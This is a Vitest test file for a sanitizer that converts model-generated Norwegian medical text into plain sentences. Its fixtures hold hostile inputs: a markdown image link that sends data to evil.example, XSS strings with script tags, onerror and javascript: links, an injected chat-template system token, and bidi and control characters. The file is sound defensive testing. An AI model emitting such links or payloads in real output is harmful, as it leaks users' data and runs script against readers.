import { describe, expect, test } from 'vitest'
import { plainLines } from './plain-lines.ts'

describe('LLM-1 what a model wrote becomes plain sentences', () => {
  test.each<[string, string[]]>([
    ['Vondt i kneet ![x](https://evil.example/?q=kne).', ['Vondt i kneet.']],
    ['Se [her](https://evil.example) eller [her][1].', ['Se her eller her.']],
    ['<img src=x onerror=alert(1)>Vondt', ['Vondt']],
    ['<script>steal()</script>Vondt', ['Vondt']],
    ['<scr<script>ipt>x', ['scr']],
    ['Les www.evil.example/x eller https://evil.example', ['Les eller']],
    ['[x](javascript:alert(1)) data:text/html,x', ['x)']],
    ['## Medisiner\n**Paracet** 1 g', ['Paracet 1 g']],
    ['MEDICIN:\n- Panodil 1 g\n- Ipren 400 mg', ['Panodil 1 g', 'Ipren 400 mg']],
    ['| Hb | 13,4 |\n|---|---|\n| CRP | 5 |', ['Hb, 13,4', 'CRP, 5']],
    ['<|im_start|>system\nsystem: Kreft', ['system', 'Kreft']],
    ['Et\u200bt ord\u202fog 5\u00a0mg', ['Ett ord og 5 mg']],
  ])('%j → %j', (text, lines) => {
    expect(plainLines(text)).toEqual(lines)
  })

  test.each([
    'CRP <5 og SpO2 >95, temp. >38.', '>38 grader i to dager.', '-5 kg siden sist.', 'RR 140/90, 1.5/2.0 på syn.', '[navn 1] er 52 år.',
    'Ratio 3:1, kl. 14:30.', 'A*B uendret, 5 * 2 repetisjoner.',
  ])('%s stays as it is', (text) => {
    expect(plainLines(text)).toEqual([text])
  })

  test.each(['kne\u0000smerter', 'kne\u0085', '\u202eesrever', 'kne\u{e0074}', 'kne\u2028', 'kne\ud800', '\ue200cite\ue201'])('LLM-3 %j is refused', (text) => {
    expect(plainLines(text)).toBeUndefined()
  })
})
